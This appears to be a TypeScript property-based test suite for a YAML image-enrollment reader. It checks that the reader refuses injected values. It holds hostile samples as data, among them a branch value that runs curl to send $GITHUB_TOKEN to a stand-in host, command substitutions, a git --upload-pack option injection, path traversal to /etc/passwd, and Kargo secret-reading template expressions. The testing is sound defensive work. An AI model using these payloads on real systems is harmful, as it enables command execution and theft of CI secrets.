import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderEntry } from './render-entry.ts';
import { readEnrollment } from './read.ts';

/** An entry with one value, in double quotes, at a dotted key. */
function entryWith(key: string, value: string): string {
  const values: Record<string, string> = {
    name: 'shop',
    registry: 'ghcr.io',
    repository: 'acme/shop',
    'source.provider': 'github',
    'source.repo': 'acme/shop',
    'source.dockerfile': 'Dockerfile',
    [key]: value,
  };
  const line = (name: string, text: string) => `${name}: ${JSON.stringify(text)}`;
  const top = Object.entries(values).filter(([name]) => !name.includes('.'));
  const source = Object.entries(values).filter(([name]) => name.startsWith('source.'));
  return [...top.map(([name, text], index) => `${index === 0 ? '- ' : '  '}${line(name, text)}`), '  source:', ...source.map(([name, text]) => `    ${line(name.slice(7), text)}`), ''].join('\n');
}

function read(text: string) {
  return readEnrollment([{ path: 'images.yaml', text }]);
}

const attacks = [
  { id: 'P1', story: 'a shell command in a branch', key: 'source.branch', value: 'main; curl evil -d $GITHUB_TOKEN;' },
  { id: 'P1', story: 'a command substitution in a branch', key: 'source.branch', value: '$(id)' },
  { id: 'P1', story: 'backticks in a branch', key: 'source.branch', value: '`id`' },
  { id: 'P2', story: 'a repository that leaves its place in a path', key: 'source.repo', value: '../user/repos#' },
  { id: 'P2', story: 'a repository with a query', key: 'source.repo', value: 'acme/shop?x=y' },
  { id: 'P2', story: 'a repository of dots', key: 'source.repo', value: 'acme/..' },
  { id: 'P2', story: 'a repository with a percent sign', key: 'source.repo', value: 'acme/%2e%2e' },
  { id: 'P2', story: 'a workflow in another repository', key: 'source.workflow', value: '../../../../acme/infra/actions/workflows/deploy.yml' },
  { id: 'P2', story: 'a host with a user', key: 'source.host', value: 'github.com@evil.com' },
  { id: 'P2', story: 'a host that is a number', key: 'source.host', value: '2130706433' },
  { id: 'P2', story: 'a host in hexadecimal', key: 'source.host', value: '0x7f.1' },
  { id: 'P2', story: 'a host with a path', key: 'source.host', value: 'github.com/evil' },
  { id: 'P3', story: 'an expression of Kargo in a branch', key: 'source.branch', value: "${{ secret('github-workflow-token').token }}" },
  { id: 'P3', story: 'an expression of Kargo in a description', key: 'description', value: "x ${{ secret('t').token }}" },
  { id: 'P3', story: 'a statement of Kargo in an owner', key: 'owner', value: '${% for x in y %}' },
  { id: 'P3', story: 'an expression in a pattern', key: 'source.job', value: 'build ${x}' },
  { id: 'P4', story: 'a repository that ends a text and goes on', key: 'repository', value: 'a") + secret("x").token + ("' },
  { id: 'P4', story: 'a registry that does', key: 'registry', value: 'ghcr.io") + ("' },
  { id: 'P5', story: 'a branch that is an option', key: 'source.branch', value: '--upload-pack=touch CANARY;git-upload-pack' },
  { id: 'P5', story: 'a short option', key: 'source.branch', value: '-u' },
  { id: 'P9', story: 'a name that is a path', key: 'name', value: '../../.github/workflows/x' },
  { id: 'P9', story: 'a Dockerfile outside', key: 'source.dockerfile', value: '../Dockerfile' },
  { id: 'P9', story: 'a Dockerfile in .git', key: 'source.dockerfile', value: 'a/.GIT/config' },
  { id: 'P9', story: 'an absolute Dockerfile', key: 'source.dockerfile', value: '/etc/passwd' },
  { id: 'P9', story: 'a name with a NUL', key: 'name', value: 'a\u0000b' },
  { id: 'P9', story: 'a name with a line end', key: 'name', value: 'a\n' },
];

describe('hostile values', () => {
  it.each(attacks)('$id: $story', ({ key, value }) => {
    const { value: enrollment, problems } = read(entryWith(key, value));
    expect(enrollment.images.size).toBe(0);
    expect(problems).toHaveLength(1);
    expect(problems[0]?.message).not.toMatch(/[\u0000-\u001f\u007f]/);
  });

  it.each(['description', 'owner', 'hold.reason', 'source.target', 'metadata', 'x-mine'])('P3: no template in %s, as a value or as a key', (key) => {
    for (const opener of ['${{', '${%']) {
      for (const value of [`"a ${opener} b"`, `{k: ["${opener}"]}`, `{"${opener}": 1}`]) {
        const [head = '', tail] = key.split('.');
        const text = `- name: a\n  registry: r.io\n  repository: b\n  constraint: x\n  ${head}: ${tail === undefined ? value : `{${tail}: ${value}}`}\n`;
        expect(read(text).value.images.size).toBe(0);
        expect(
          read(text)
            .problems.map(({ message }) => message)
            .join(),
        ).toContain(opener);
      }
    }
  });

  it('never prints what could act on a terminal, nor all of a long value', () => {
    for (const value of ['\u001b[31mred\u0007', '\u202egnp.exe', 'x'.repeat(10_000), '\u0085\u2028', '::error::x\n::warning::y']) {
      for (const { message, hint } of read(entryWith('source.branch', value)).problems) {
        expect(message + (hint ?? '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e]/);
        expect(message.length).toBeLessThan(400);
      }
    }
  });

  it('never prints control characters from keys either', () => {
    const { problems } = read('- name: a\n  "\\e[31m\\u202e": 1\n  metadata: {"a\\0b": 1}\n');
    expect(problems.length).toBeGreaterThan(0);
    for (const { message, hint } of problems) expect(message + (hint ?? '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e]/);
  });

  it('lets nothing through that could start something, whatever stands in a value that reaches a command or Kargo', () => {
    const key = fc.constantFrom(
      'name',
      'registry',
      'repository',
      'source.repo',
      'source.branch',
      'source.workflow',
      'source.dockerfile',
      'source.context',
      'source.host',
      'source.target',
      'publishedTag',
      'source.bakeFile',
    );
    const nasty = fc
      .array(fc.constantFrom('${', '{{', '$(', '`', ';', '|', '&', '"', "'", '\\', '\n', ' ', '..', '/', '-', 'a', '.', ':', '@', '#', '%', '\u0000'), { minLength: 1, maxLength: 6 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(key, nasty, (at, value) => {
        for (const image of read(entryWith(at, value)).value.images.values()) {
          const { written, metadata, at: _, ...rest } = image;
          expect(JSON.stringify(rest)).not.toMatch(/\$|`|;|\||&|\\[^"\\/]|["/]\.\.["/]|"-|\s/);
        }
      }),
      { numRuns: 3000 },
    );
  });
});

describe('one entry and the others', () => {
  const entry = (index: number) =>
    renderEntry({ name: `image-${index}`, registry: 'ghcr.io', repository: `acme/image-${index}`, source: { provider: 'github', dockerfile: 'Dockerfile', branch: 'main' }, description: 'x' });
  const noPlaces = { at: undefined, dockerfileAt: undefined };
  const breaks = fc.constantFrom<(text: string) => string>(
    (text) => text.replace('provider: github', 'provider: "github'),
    (text) => text.replace('provider: github', 'provider: gthub'),
    (text) => text.replace('registry: ghcr.io', 'registry: *x'),
    (text) => text.replace('registry: ghcr.io', 'registry:ghcr.io'),
    (text) => text.replace('registry: ghcr.io', '\tregistry: ghcr.io'),
    (text) => text.replace('registry: ghcr.io', 'registry: [a, b'),
    (text) => text.replace('registry: ghcr.io', ' registry: ghcr.io'),
    (text) => text.replace('repository', 'repositry'),
    (text) => text.replace('description: x', 'name: y'),
    (text) => text.replace('description: x', `description: ${'['.repeat(40)}`),
    (text) => text.replace('description: x', 'description: "\u0007"'),
    (text) => text.replace(/name: .*/, 'name: [x]'),
    () => 'just text',
  );

  it.each([
    { form: 'list', head: '', indent: '' },
    { form: 'mapping', head: 'version: 1\nimages:\n', indent: '  ' },
  ])('are independent: a broken one never changes what the others give ($form form)', ({ head, indent }) => {
    const asItem = (text: string) =>
      text
        .split('\n')
        .map((line, index) => `${indent}${index === 0 ? '- ' : '  '}${line}\n`)
        .join('');
    fc.assert(
      fc.property(fc.array(fc.option(breaks, { freq: 3 }), { minLength: 1, maxLength: 5 }), (list) => {
        const good = read(head + list.map((_, index) => asItem(entry(index))).join('')).value;
        const broken = read(head + list.map((spoil, index) => asItem(spoil === null ? entry(index) : spoil(entry(index)))).join(''));
        const kept = list.flatMap((spoil, index) => (spoil === null ? [`image-${index}`] : []));
        expect([...broken.value.images.keys()]).toEqual(kept);
        for (const [name, image] of broken.value.images) expect({ ...image, ...noPlaces }).toEqual({ ...good.images.get(name), ...noPlaces });
        const lost = list.flatMap((_, index) => (kept.includes(`image-${index}`) ? [] : [`image-${index}`]));
        expect(broken.value.complete && lost.some((name) => !broken.value.unusable.has(name))).toBe(false);
        expect(broken.problems.length).toBeGreaterThanOrEqual(lost.length);
      }),
      { numRuns: 300 },
    );
  });
});

describe('any text', () => {
  const piece = fc.constantFrom(
    '- name: ',
    'name',
    ': ',
    '\n',
    '\n  ',
    '\n- ',
    'images:\n',
    'defaults:\n',
    '  ',
    'source:',
    'registry: ghcr.io',
    '[',
    ']',
    '{',
    '}',
    '"',
    "'",
    '&a',
    '*a',
    '!b',
    '|\n',
    '#',
    'x',
    '1',
    'true',
    '${{',
    '\u0000',
    '\t',
    '---\n',
    'hold: ',
    'tags: ',
  );

  it('is read or refused, with problems that have a place in the file', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 60 }),
          fc.array(piece, { maxLength: 20 }).map((pieces) => pieces.join('')),
        ),
        (text) => {
          const lines = text.split('\n').length;
          for (const { source } of read(text).problems) {
            expect(source?.file).toBe('images.yaml');
            expect(source?.range?.start.line ?? 1).toBeLessThanOrEqual(lines);
          }
        },
      ),
      { numRuns: 5000 },
    );
  });

  it.each([
    { story: '10 MiB', text: '- name: a\n'.repeat(1_100_000), code: 'yaml/too-large' },
    { story: 'an alias bomb', text: `a: &a [x]\n${Array.from({ length: 20 }, (_, index) => `b${index}: [*a, *a]`).join('\n')}\n`, code: 'yaml/forbidden-feature' },
    { story: '5,000 levels in brackets', text: `- name: ${'['.repeat(5000)}`, code: 'yaml/too-deep' },
    { story: '5,000 levels of lists', text: '- '.repeat(5000), code: 'yaml/too-deep' },
  ])('$story', ({ text, code }) => {
    const { value, problems } = read(text);
    expect([value.images.size, value.complete, problems.map((problem) => problem.code)]).toEqual([0, false, [code]]);
  });
});
